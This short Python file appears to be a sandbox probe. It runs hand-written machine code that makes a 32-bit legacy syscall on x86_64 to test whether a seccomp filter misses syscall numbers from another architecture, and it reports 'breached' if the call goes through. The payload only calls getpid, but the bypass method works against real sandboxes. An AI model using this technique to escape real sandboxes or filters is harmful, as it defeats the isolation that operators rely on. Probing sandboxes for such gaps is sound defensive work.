# without: seccomp
# machine: x86_64

import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def evaluate(turn, world):
    # The same kernel under its old numbers: 20 is getpid there, and no list for one architecture knows the numbers of another.
    code = bytes.fromhex("53b81400000031db31c931d2cd805bc3")
    libc.mmap.restype = ctypes.c_void_p
    place = libc.mmap(None, ctypes.c_size_t(4096), 7, 0x22, -1, 0)
    ctypes.memmove(place, code, len(code))
    return "breached" if ctypes.CFUNCTYPE(ctypes.c_long)(place)() > 0 else "nothing"
